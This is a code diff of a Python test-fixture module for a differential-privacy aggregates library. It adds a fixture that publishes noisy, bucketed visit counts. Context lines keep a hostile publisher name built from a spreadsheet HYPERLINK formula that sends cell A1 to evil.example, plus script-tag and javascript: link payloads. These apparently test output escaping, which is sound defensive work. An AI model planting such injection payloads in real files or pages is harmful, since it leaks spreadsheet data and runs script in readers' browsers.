@@ -5,16 +5,20 @@ from __future__ import annotations
 import datetime as dt
 from pathlib import Path
 
-from tests.aggregates_world import MemoryLedger
+from tests.aggregates_world import MemoryLedger, utc, world_in
+from tests.numbers_world import VISITS, Visit, events_of, visits
 from tests.unit.aggregates.ledger.ledgers import END, NOW, of, opened, settlement
 
-from quietcount_aggregates.catalogue import AskedTable
+from quietcount_aggregates.catalogue import resolve
 from quietcount_aggregates.description import Description, Label
 from quietcount_aggregates.ledger.entries import StateLost
+from quietcount_aggregates.noise import DiscreteLaplace
 from quietcount_aggregates.publication.publication import publish
+from quietcount_aggregates.tables import AskedTable
+from quietcount_schemas.numbers import Buckets
 from quietcount_schemas.periods import Period
 
-__all__ = ["BACKSLASH", "FORMULA", "LABELS", "PUBLISHER", "empty_file", "hostile_file"]
+__all__ = ["BACKSLASH", "FORMULA", "LABELS", "PUBLISHER", "empty_file", "hostile_file", "numbers_file"]
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
 PUBLISHER = f'{FORMULA}\r\n<script>alert(1)</script> | [x](javascript:alert(1)) "Ромашка"'
@@ -59,3 +63,30 @@ def empty_file(path: Path) -> Path:
     ledger.declare([_ASKED], ledger.chain.opened.lifetime_epsilon, NOW, end=END)
     publish(ledger.chain, path)
     return path
+
+
+def numbers_file(folder: Path) -> Path:
+    """Publish in `folder` a quarter of two populations with buckets, some of them below 0, and with averages."""
+    populations = [
+        visits(),
+        resolve(
+            "ages",
+            events=["Visited"],
+            registry=VISITS,
+            period=Period.MONTH,
+            since=dt.date(2024, 1, 1),
+            tables=[
+                AskedTable("by_age", 1.0, by=[Buckets("age", (-5, 0, 18))]),
+            ],
+        ),
+    ]
+    told = [
+        Visit(dt.date(2024, month, 1), days, "NEW", days - 5 if days % 2 else None)
+        for month in (1, 2, 3)
+        for days in range(90)
+    ]
+    with world_in(folder, populations, registry=VISITS, mechanism=DiscreteLaplace()) as world:
+        world.emit(events_of(told))
+        world.fold(dt.date(2024, 4, 2))
+        world.release(utc(dt.date(2024, 4, 1)))
+        return world.public
